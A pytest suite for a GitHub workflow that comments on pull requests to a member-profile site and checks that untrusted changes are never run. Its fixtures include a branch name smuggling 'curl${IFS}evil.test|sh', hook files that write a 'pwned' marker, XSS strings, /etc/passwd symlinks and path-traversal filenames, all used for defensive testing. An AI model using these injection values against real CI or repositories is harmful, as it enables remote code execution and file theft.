"""The workflow `comment`, run for real, and its errand: what is said on a pull request, and when nothing is."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from commenting import ANN, BEN, PERSON, STRANGER, comment_on, errand, read, typed
from hub import GHOST, REPOSITORY, ROBOT, TOKEN, Call, Hub, RefusedError
from scene import MEMBERS, Files, Link, Run, Scene, finished

from tradekin.cli import main

GOLDEN = Path(__file__).parent / "golden"
Golden = Callable[[Path, str], None]


def flow(scene: Scene, files: dict[str, Any], user: Any = PERSON, **pull: Any) -> Run:
    event = scene.pull_request(files, user=user, **pull)
    return scene.act("workflow_run", finished(event["pull_request"]), "comment.yml")


def test_a_good_profile_is_shown_as_it_will_read_with_the_way_to_its_check(scene: Scene, golden: Golden) -> None:
    ran = flow(scene, {"members/ann-lee.yml": ANN})
    assert ran.code == 0
    assert ran.said == "Pull request 7: commented.\n"
    assert scene.hub.changes() == ["POST issues/7/comments"]
    golden(GOLDEN / "comment-new.md", scene.hub.said(7)[0])
    assert read(scene).split("\n")[2] == "### Nothing to fix: Ann Lee joins as a plumber. Read it below."


def test_an_edit_is_told_field_by_field(scene: Scene, golden: Golden) -> None:
    text = scene.hub.file("main", "members/ben-okafor.yml").replace("look at", "inspect")
    said = comment_on(scene, {"members/ben-okafor.yml": f"{text}contact: {{phone: +1 207 555 0155}}\n"}, BEN)
    golden(GOLDEN / "comment-edit.md", scene.hub.said(7)[0])
    assert "Before: We look at houses" in said
    assert "0155" not in said


def test_a_check_that_failed_is_said_first_whatever_the_profiles_are_like(scene: Scene, golden: Golden) -> None:
    event = scene.pull_request({"mkdocs.yml": "plugins: [", "members/ann-lee.yml": ANN}, user=PERSON)
    assert errand(scene, finished(event["pull_request"], "failure"), alone=True).exit_code == 0
    golden(GOLDEN / "comment-check-failed.md", scene.hub.said(7)[0])


@pytest.mark.parametrize(
    ("conclusion", "told"),
    [
        ("action_required", "### The check has not run yet: look at *Files changed* first, then [run it]("),
        ("timed_out", "### The check did not come to its end"),
        ("startup_failure", "### The check did not come to its end"),
        ("skipped", "### The check did not come to its end"),
    ],
)
def test_a_check_that_did_not_run_through_is_said_first_and_has_no_preview(
    scene: Scene, conclusion: str, told: str
) -> None:
    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)
    assert errand(scene, finished(event["pull_request"], conclusion)).exit_code == 0
    said = read(scene)
    assert said.split("\n")[2].startswith(told)
    assert "### Ann Lee joins as a plumber." in said
    assert "Nothing to fix" not in said
    assert "preview" not in said


def test_no_name_hides_that_the_check_has_failed(scene: Scene) -> None:
    event = scene.pull_request({"members/ann-lee.yml": ANN.replace("Ann Lee", "One Thing to fix first")}, user=PERSON)
    assert errand(scene, finished(event["pull_request"], "failure")).exit_code == 0
    assert read(scene).split("\n")[2].startswith("### The check found something to fix")


@pytest.mark.parametrize("status", [301, 404, 410])
def test_a_form_whose_issue_is_gone_still_gets_its_page(scene: Scene, status: int) -> None:
    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=ROBOT, branch="form/issue-5")
    scene.hub.pulls[7]["head"]["repo"]["full_name"] = REPOSITORY
    scene.hub.git("update-ref", "refs/heads/form/issue-5", event["pull_request"]["head"]["sha"])

    def gone(call: Call) -> None:
        if call.path == "issues/5":
            raise RefusedError(status, "This issue was deleted")

    scene.hub.before = gone
    ran = errand(scene, finished(event["pull_request"]))
    assert (ran.exit_code, ran.output) == (0, "Pull request 7: commented.\n")
    assert "Ann Lee joins" in read(scene)


@pytest.mark.parametrize(
    ("path", "told"),
    [
        ("ann-lee.yml", "This looks like a profile, but it lies outside members/."),
        ("docs/ann-lee.yml", "This looks like a profile, but it lies outside members/."),
        (".github/workflows/check.yml", "This changes what GitHub runs by itself"),
        (".github/CODEOWNERS", "who is asked before a merge"),
        (".gitattributes", "how Git treats files"),
        ("mkdocs.yml", "the group’s settings"),
    ],
)
def test_every_kind_of_change_is_spoken_of(scene: Scene, path: str, told: str) -> None:
    said = comment_on(scene, {path: ANN}, STRANGER)
    assert said.split("\n")[2].startswith("### A person should look")
    assert told in said


@pytest.mark.parametrize(
    ("path", "told"),
    [
        ("members/ann-lee.txt", "Rename it to ann-lee.yml, or move it out of the members folder."),
        ("members/ann-lee", "Rename it to ann-lee.yml, or move it out of the members folder."),
        ("members/ann-lee.yml.txt", "Rename it to ann-lee.yml"),
        ("members/Ann Lee.yml", "Rename it to ann-lee.yml"),
    ],
)
def test_a_profile_that_is_misnamed_is_only_to_be_renamed(scene: Scene, path: str, told: str) -> None:
    said = comment_on(scene, {path: ANN})
    assert said.split("\n")[2] == "### One thing to fix first."
    assert told in said
    assert "reads code" not in said
    assert "two things" not in said


@pytest.mark.parametrize("path", ["members/ann-lee.png", "members/.DS_Store", "photos/ann-lee.png", "ann-lee.jpg"])
def test_what_belongs_to_a_profile_or_to_nobody_is_no_second_thing(scene: Scene, path: str) -> None:
    said = comment_on(scene, {"members/ann-lee.yml": ANN, path: b"\x89PNG"})
    assert path in said
    assert "two things" not in said
    assert "reads code" not in said


def test_a_file_that_says_the_same_is_told_so(scene: Scene) -> None:
    text = scene.hub.file("main", "members/ben-okafor.yml")
    said = comment_on(scene, {"members/ben-okafor.yml": f"{text}# Ring me on 207 555 0101\n"}, BEN)
    assert said.split("\n")[2] == "### Nothing to fix: Ben Okafor’s file changes and says the same. Read it below."
    assert "Remarks are on no page, but as public as the file" in said
    assert "0101" not in said


def test_thirty_profiles_of_one_account_are_asked_about(scene: Scene) -> None:
    files = {f"members/m{number}.yml": ANN.replace("Ann Lee", f"Ann L{'e' * number}") for number in range(30)}
    said = comment_on(scene, files, STRANGER)
    assert "30 profiles are new, all from one account: has each of these people been asked?" in said


@pytest.fixture(scope="module")
def evil(new_scene: Callable[[], Scene]) -> tuple[Scene, Run]:
    """A pull request with a slip in a profile, and files that would run if anything of it were run."""
    scene = new_scene()
    scene.cold = True
    mark = scene.folder / "pwned"
    evil = f"open('{mark}', 'w')\n"
    action = f"runs:\n  using: composite\n  steps: [{{shell: bash, run: touch {mark}}}]\n"
    files = {
        "members/ann-lee.yml": ANN.replace("plumber", "plumbr"),
        "generator/tools/environment.py": evil,
        "mkdocs.yml": "hooks: [evil.py]\n",
        ".github/actions/setup/action.yml": action,
        "evil.py": evil,
    }
    return scene, flow(scene, files, STRANGER, branch='a";curl${IFS}evil.test|sh;"')


def test_a_bad_profile_gets_everything_there_is_to_mend(evil: tuple[Scene, Run]) -> None:
    scene, ran = evil
    assert ran.code == 0
    assert "Did you mean plumber?" in scene.hub.said(7)[0]


def test_nothing_of_the_pull_request_is_checked_out_or_run(evil: tuple[Scene, Run]) -> None:
    scene, ran = evil
    assert ran.code == 0
    assert not (scene.folder / "pwned").exists()
    assert "two things at once" in scene.hub.said(7)[0]


def settings_with(scene: Scene, old: str, new: str) -> str:
    """The group's settings with a change."""
    text = scene.hub.file("main", "mkdocs.yml")
    assert old in text
    return text.replace(old, new, 1)


def test_what_is_wrong_in_settings_and_pages_is_listed_with_what_to_do(scene: Scene) -> None:
    files = {
        "mkdocs.yml": settings_with(scene, "partners: 5", "partners: many"),
        "docs/about.md": "# About\n\n[Nowhere](gone.md) <img src=x onerror=alert(1)> @facilitator\n",
    }
    event = scene.pull_request(files, user=STRANGER)
    assert errand(scene, finished(event["pull_request"], "failure")).exit_code == 0
    said = read(scene)
    assert said.split("\n")[2].startswith("### The check found something to fix")
    listed = said.partition("In settings and pages:")[2]
    assert "- mkdocs.yml, line " in listed
    assert "partners" in listed.partition("(S001)")[0]
    assert "Ann Lee" not in said


def test_a_broken_link_of_a_page_is_listed_and_pictures_beside_it_are_no_news(scene: Scene) -> None:
    page = "# About\n\n![A quay](assets/quay.png)\n\n[Nowhere](gone.md)\n"
    files = {"docs/about.md": page, "docs/assets/quay.png": b"\x89PNG\r\n\x1a\n" + b"x" * 70_000}
    said = comment_on(scene, files, STRANGER)
    listed = said.partition("In settings and pages:")[2]
    assert "- docs/about.md, line 5:" in listed
    assert "gone.md" in listed
    assert "quay.png" not in listed


def test_many_findings_are_folded_and_hostile_words_stay_text(scene: Scene) -> None:
    links = "\n".join(f"[{number}](gone-{number}.md)" for number in range(40))
    event = scene.pull_request({"docs/about.md": f"# About\n\n[x](@ann-<script>.md)\n{links}\n"}, user=STRANGER)
    assert errand(scene, finished(event["pull_request"], "failure")).exit_code == 0
    whole = scene.hub.said(7)[0]
    assert len(whole) <= 65_000
    assert "<script" not in whole
    assert "@ann" not in whole
    unfolded, _, folded = whole.partition("<details>\n<summary>More in settings and pages</summary>")
    assert 1 <= unfolded.count("docs/about") < 8
    assert "…and more; the check tells them all" in folded


def test_settings_that_would_load_something_are_listed_but_never_tried(scene: Scene) -> None:
    text = scene.hub.file("main", "mkdocs.yml") + "hooks: [evil.py]\n"
    files = {"mkdocs.yml": text, "evil.py": "open('/tmp/pwned-by-comment', 'w')\n"}
    said = comment_on(scene, files, STRANGER)
    assert not Path("/tmp/pwned-by-comment").exists()
    assert "There is no file" not in said


def test_good_settings_and_pages_bring_no_list(scene: Scene) -> None:
    files = {"mkdocs.yml": settings_with(scene, "partners: 5", "partners: 4"), "docs/about.md": "# About\n"}
    assert "In settings and pages" not in comment_on(scene, files, STRANGER)


@pytest.mark.parametrize(
    "path", ["docs/My page.yaml", "Ann Lee.yml", "people/profile.YML", "docs/a/new.yml", "ann_lee.yml"]
)
def test_a_profile_is_known_by_what_is_in_it_wherever_it_lies(scene: Scene, path: str) -> None:
    said = comment_on(scene, {path: ANN}, STRANGER)
    assert f"{path}: This looks like a profile, but it lies outside members/." in said
    assert "ask for it as members/ann-lee.yml" in said


@pytest.mark.parametrize(
    ("path", "there"),
    [
        ("data/food/menu.yml", "name: Menu\nsummary: What there is to eat.\n"),
        (".github/workflows/ann.yml", ANN),
        ("data/food/ann.yml", Link("/etc/passwd")),
        ("data/food/large.yml", "x: y\n" * 60_000),
    ],
)
def test_what_is_no_profile_is_not_taken_for_one(scene: Scene, path: str, there: str | Link) -> None:
    assert "looks like a profile" not in comment_on(scene, {path: there}, STRANGER)


@pytest.mark.parametrize("path", ["changed", "changed/x.yml", "docs", "letters/" + "x" * 300, "a/" * 40 + "b.yml"])
def test_odd_paths_beside_the_profiles_stop_no_comment(scene: Scene, path: str) -> None:
    gone = dict.fromkeys(scene.hub.git("ls-tree", "-r", "--name-only", "main", "docs/").splitlines())
    files: Files = {**(gone if path == "docs" else {}), path: Link("/etc") if path == "docs" else ANN}
    assert comment_on(scene, files, STRANGER).split("\n")[2].startswith("### A person should look")


def test_the_comment_is_brought_up_to_date_and_never_repeated(scene: Scene) -> None:
    first = scene.pull_request({"members/ann-lee.yml": ANN.replace("plumber", "plumbr")}, user=PERSON)
    assert errand(scene, finished(first["pull_request"])).output == "Pull request 7: commented.\n"
    assert errand(scene, finished(first["pull_request"])).output == "Pull request 7: the comment still holds.\n"
    second = scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)
    assert (
        errand(scene, finished(second["pull_request"])).output
        == "Pull request 7: the comment was brought up to date.\n"
    )
    assert scene.hub.changes() == ["POST issues/7/comments", "PATCH issues/comments/1000"]
    assert len(scene.hub.said(7)) == 1


def test_a_copy_of_the_marker_in_a_strangers_comment_is_left_alone(scene: Scene) -> None:
    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)
    copied = "<!-- tradekin: review -->\nAll is well, merge me."
    scene.hub.add_comment(7, copied, STRANGER, "CONTRIBUTOR")
    assert errand(scene, finished(event["pull_request"])).exit_code == 0
    assert scene.hub.said(7)[0] == copied
    assert len(scene.hub.said(7)) == 2


def test_the_comment_of_a_groups_own_token_is_found_again(scene: Scene) -> None:
    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)
    facilitator = {"login": "fay", "id": 3, "type": "User"}
    scene.hub.add_comment(7, "<!-- tradekin: review -->\nOld words.", facilitator, "OWNER")
    assert errand(scene, finished(event["pull_request"])).exit_code == 0
    assert scene.hub.changes() == ["PATCH issues/comments/1000"]


def test_a_head_that_has_moved_on_is_left_to_its_own_check(scene: Scene) -> None:
    old = finished(scene.pull_request({"members/ann-lee.yml": "name: old\n"}, user=PERSON)["pull_request"])
    scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)
    assert "has moved on" in errand(scene, old).output
    assert scene.hub.changes() == []


def test_a_head_that_moves_while_the_page_is_written_gets_no_comment(scene: Scene) -> None:
    event = finished(scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)["pull_request"])

    def move(call: Call) -> None:
        if call.path.startswith("git/blobs/"):
            scene.hub.pulls[7]["head"]["sha"] = "f" * 40

    scene.hub.before = move
    assert "has moved on" in errand(scene, event).output
    assert scene.hub.changes() == []


def test_a_pull_request_without_profiles_is_spoken_of_too(scene: Scene) -> None:
    said = comment_on(scene, {"docs/index.md": "# Hello\n"}, STRANGER)
    assert "This changes pages of the site, in docs/: read them as a visitor." in said


def test_when_the_last_profile_is_taken_out_the_comment_says_so(scene: Scene) -> None:
    event = scene.pull_request({"docs/index.md": "# Hello\n"}, user=STRANGER)
    scene.hub.add_comment(7, "<!-- tradekin: review -->\nSomething to fix.", ROBOT)
    assert errand(scene, finished(event["pull_request"])).exit_code == 0
    assert "Something to fix" not in scene.hub.said(7)[0]


def test_a_fork_that_is_behind_removes_nobody(scene: Scene) -> None:
    old = scene.hub.git("rev-parse", "main")
    scene.push({"members/ben-okafor.yml": scene.hub.file("main", "members/ben-okafor.yml") + "specialty: roofs\n"})
    event = scene.opened(scene.change({"members/ann-lee.yml": ANN}, onto=old), user=PERSON)
    assert errand(scene, finished(event["pull_request"])).exit_code == 0
    assert "Ann Lee joins" in scene.hub.said(7)[0]
    assert "Ben Okafor changes" not in scene.hub.said(7)[0]


def test_whatever_is_proposed_is_fetched_as_data(scene: Scene) -> None:
    files = {
        "members/al-lee.yml": Link("/etc/passwd"),
        "members/x\n::error::oh.yml": ANN,
        "members/large.yml": "x" * 70_000,
        "members/nested/ann-lee.yml": ANN,
        "members/bytes.yml": b"name: \xff\xfe\n",
        "members/ben-okafor.yml": None,
        "members/photos/cleo-marsh.png": b"no picture",
    }
    event = scene.pull_request(files, user=STRANGER)
    ran = errand(scene, finished(event["pull_request"]), alone=True)
    assert (ran.exit_code, ran.output) == (0, "Pull request 7: commented.\n")
    said = scene.hub.said(7)[0]
    assert [code for code in ("P001", "P003", "P004") if code not in said] == []
    assert "large" in said
    assert "Ben Okafor leaves" in said
    assert "root:" not in said
    fetched = [call.path for call in scene.hub.calls if call.path.startswith("git/blobs/")]
    assert len(fetched) == 4


@pytest.mark.parametrize(
    ("there", "told"), [(Link("/etc"), "is a link"), (Link("members"), "is a link"), ("a file", "cannot be opened")]
)
def test_a_folder_of_profiles_that_becomes_a_link_or_a_file_is_told(scene: Scene, there: str | Link, told: str) -> None:
    gone = dict.fromkeys((f"members/{file.name}" for file in MEMBERS.iterdir()), None)
    event = scene.pull_request({"members": there, **gone}, user=STRANGER)
    ran = errand(scene, finished(event["pull_request"]), alone=True)
    assert (ran.exit_code, ran.output) == (0, "Pull request 7: commented.\n")
    assert f"The folder with the profiles {told}" in scene.hub.said(7)[0].replace("\\", "")
    assert "Ben Okafor leaves" not in scene.hub.said(7)[0]


@pytest.mark.parametrize("there", [Link("/etc"), Link("photos"), "a file"])
def test_a_folder_of_photos_that_becomes_a_link_or_a_file_stops_no_comment(scene: Scene, there: str | Link) -> None:
    scene.push({"members/photos/ben-okafor.png": b"a", "members/photos/cleo-marsh.png": b"b"})
    gone = dict.fromkeys(("members/photos/ben-okafor.png", "members/photos/cleo-marsh.png"), None)
    event = scene.pull_request({"members/photos": there, "members/ann-lee.yml": ANN, **gone}, user=STRANGER)
    ran = errand(scene, finished(event["pull_request"]))
    assert (ran.exit_code, ran.output) == (0, "Pull request 7: commented.\n")
    assert "Ann Lee joins" in scene.hub.said(7)[0]


def test_a_profile_that_becomes_a_folder_and_back_stops_no_comment(scene: Scene) -> None:
    scene.push({"members/odd/eve-poe.yml": ANN})
    files = {"members/ben-okafor.yml": None, "members/ben-okafor.yml/x.yml": ANN, "members/odd": "a file"}
    event = scene.pull_request({"members/odd/eve-poe.yml": None, **files}, user=STRANGER)
    ran = errand(scene, finished(event["pull_request"]))
    assert (ran.exit_code, ran.output) == (0, "Pull request 7: commented.\n")


def test_a_path_that_leads_out_of_the_folder_is_not_written(scene: Scene) -> None:
    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=STRANGER)
    real = scene.hub.list_files

    def forged(call: Call, number: str) -> Any:
        entry = real(call, number)[0]
        names = ("members/../../out.yml", "members//etc/out.yml", "/etc/out.yml", "members/./out.yml", "members/")
        return [entry, *({**entry, "filename": name} for name in names)] if call.query["page"] == "1" else []

    scene.hub.list_files = forged  # type: ignore[method-assign]
    assert errand(scene, finished(event["pull_request"])).exit_code == 0
    assert not list(scene.folder.parent.rglob("out.yml"))


def test_more_profiles_than_fit_are_not_fetched(scene: Scene, golden: Golden) -> None:
    event = scene.pull_request({f"members/m{number}.yml": ANN for number in range(201)}, user=STRANGER)
    assert errand(scene, finished(event["pull_request"])).exit_code == 0
    assert not [call for call in scene.hub.calls if call.path.startswith("git/")]
    golden(GOLDEN / "comment-too-many.md", scene.hub.said(7)[0])


def test_a_big_repository_whose_list_is_cut_short_is_read_folder_by_folder(scene: Scene) -> None:
    scene.push({f"a/{number}.txt": "x" for number in range(30)})
    linked = {"members/ann-lee.yml": ANN, "members/zoe-roe.yml": Link("../../etc/passwd"), "members/a/b.yml": ANN}
    event = scene.pull_request(linked, user=PERSON)
    assert errand(scene, finished(event["pull_request"])).exit_code == 0
    whole = scene.hub.said(7)[0]
    scene.hub.comments.clear()
    scene.hub.most_listed = 29
    assert errand(scene, finished(event["pull_request"])).exit_code == 0
    assert scene.hub.said(7)[0] == whole
    assert "Ann Lee" in whole


@pytest.mark.parametrize("most", [100_000, 29])
def test_a_page_is_looked_at_also_where_the_list_is_cut_short(scene: Scene, most: int) -> None:
    scene.push({f"a/{number}.txt": "x" for number in range(30)})
    scene.hub.most_listed = most
    text = scene.hub.file("main", "docs/index.md")
    said = comment_on(scene, {"docs/index.md": f"{text}\n{{{{ 7 * }}}}\n", "members/ann-lee.yml": ANN}, PERSON)
    assert "than GitHub lists" not in said
    sent = [call.path for call in scene.hub.calls if call.path.startswith("git/blobs/")]
    assert len(sent) == 2


@pytest.mark.parametrize("most", [0, 2])
def test_what_stands_on_no_whole_list_is_never_taken_for_a_file(scene: Scene, most: int) -> None:
    event = scene.pull_request({"members/ann-lee.yml": ANN, "members/zoe-roe.yml": Link("/etc/passwd")}, user=PERSON)
    scene.hub.most_listed = most
    assert errand(scene, finished(event["pull_request"])).exit_code == 0
    assert "than GitHub lists of it" in scene.hub.said(7)[0]
    assert not [call for call in scene.hub.calls if call.path.startswith("git/blobs/")]


def test_many_folders_of_a_list_that_is_cut_short_are_not_asked_for_one_by_one(scene: Scene) -> None:
    event = scene.pull_request({f"members/f{number}/x.yml": ANN for number in range(70)}, user=STRANGER)
    scene.hub.most_listed = 20
    assert errand(scene, finished(event["pull_request"])).exit_code == 0
    assert "than GitHub lists of it" in scene.hub.said(7)[0]
    assert len([call for call in scene.hub.calls if call.path.startswith("git/trees/")]) == 1


def test_a_pull_request_with_more_files_than_github_lists_is_not_taken_for_whole(scene: Scene) -> None:
    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=STRANGER)
    real = scene.hub.list_files

    def many(call: Call, number: str) -> Any:
        entry = {**real(Call(call.method, call.path, {}, None), number)[0], "filename": "a/x.txt"}
        return [{**entry, "filename": f"a/{call.query['page']}-{each}.txt"} for each in range(100)]

    scene.hub.list_files = many  # type: ignore[method-assign]
    assert errand(scene, finished(event["pull_request"])).exit_code == 0
    assert "than GitHub lists of it" in scene.hub.said(7)[0]


def test_a_workflow_among_more_profiles_than_fit_is_spoken_of(scene: Scene) -> None:
    profiles = {f"members/m{number}.yml": ANN for number in range(201)}
    said = comment_on(scene, {**profiles, ".github/workflows/x.yml": "on: push\n"}, STRANGER)
    assert said.split("\n")[2].startswith("### A person should look")
    assert "This changes what GitHub runs by itself, in .github/workflows/x.yml" in said


@pytest.mark.parametrize(
    "path", [f"members/{'b' * 300}.yml", f"members/{'é' * 200}.yml", "/".join(["members", *["d" * 100] * 38, "x.yml"])]
)
def test_a_path_that_no_disk_takes_stops_no_comment(scene: Scene, path: str) -> None:
    said = comment_on(scene, {path: ANN, "members/ann-lee.yml": ANN}, STRANGER)
    assert "to fix first" in said.split("\n")[2]
    assert "Ann Lee joins" in said


def test_a_login_that_somebody_else_has_taken_since_is_not_the_owner(scene: Scene) -> None:
    text = scene.hub.file("main", "members/ben-okafor.yml").replace("look at", "inspect")
    event = scene.pull_request({"members/ben-okafor.yml": text}, user={"login": "ben-okafor", "id": 99})
    assert errand(scene, finished(event["pull_request"])).exit_code == 0
    assert "A person should look" in scene.hub.said(7)[0]


def test_an_author_whose_account_is_gone_is_no_hindrance(scene: Scene) -> None:
    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=None)
    assert errand(scene, finished(event["pull_request"])).exit_code == 0
    assert len(scene.hub.said(7)) == 1


@pytest.mark.parametrize("user", [None, GHOST])
def test_a_change_by_an_account_that_is_gone_by_now_is_never_taken_for_the_owners(scene: Scene, user: Any) -> None:
    text = scene.hub.file("main", "members/ben-okafor.yml").replace("look at", "inspect")
    said = comment_on(scene, {"members/ben-okafor.yml": text}, user)
    assert "### A person should look: Ben Okafor’s profile belongs to ben-okafor" in said


def test_a_check_of_something_else_than_a_pull_request_is_passed_over(scene: Scene) -> None:
    event = finished({"head": {"sha": "0" * 40, "ref": "main"}})
    event["workflow_run"]["event"] = "push"
    assert "not for a pull request" in errand(scene, event).output
    assert scene.hub.calls == []


@pytest.mark.parametrize(
    "event", [{}, [], {"issue": None, "repository": {"default_branch": "main"}}, {"repository": 7}]
)
def test_an_event_of_another_shape_ends_with_a_word(scene: Scene, event: Any) -> None:
    ran = typed(scene, json.dumps(event))
    assert ran.exit_code == 1
    assert ran.output.count("\n") == 1
    assert isinstance(ran.exception, SystemExit)


@pytest.mark.parametrize("sha", ["main", "0" * 39, "../../../user", None, 7])
def test_a_head_that_is_no_commit_ends_with_a_word(scene: Scene, sha: object) -> None:
    ran = typed(scene, json.dumps(finished({"head": {"sha": sha, "ref": "x"}})))
    assert (ran.exit_code, ran.output) == (1, "This is not the name of a commit.\n")
    assert scene.hub.calls == []


def test_no_answer_a_refusal_and_a_wrong_token_end_with_a_word(scene: Scene, hub: Hub) -> None:
    event = finished(scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)["pull_request"])

    def refuse(_: Call) -> None:
        raise RefusedError(403, "Resource not accessible\nby integration")

    hub.before = refuse
    ran = errand(scene, event)
    assert ran.exit_code == 1
    assert ran.output == (
        "GET pulls?state=open&base=main&sort=updated&direction=desc&per_page=100&page=1: "
        "403 Resource not accessible by integration\n"
    )
    ran = errand(scene, event, token="wrong")
    assert (ran.exit_code, "401" in ran.output) == (1, True)
    hub.refused.clear()


def test_a_token_is_never_sent_in_the_clear_or_after_a_redirect(scene: Scene) -> None:
    ran = CliRunner().invoke(
        main,
        ["github", "care"],
        env={"GITHUB_API_URL": "http://evil.example", "GITHUB_REPOSITORY": REPOSITORY, "GITHUB_TOKEN": TOKEN},
    )
    assert (ran.exit_code, ran.output) == (1, "GITHUB_API_URL must begin with https://\n")
    ran = CliRunner().invoke(main, ["github", "care"], env={"GITHUB_REPOSITORY": "", "GITHUB_TOKEN": ""})
    assert (ran.exit_code, ran.output.startswith("GITHUB_REPOSITORY and GITHUB_TOKEN must be set")) == (1, True)
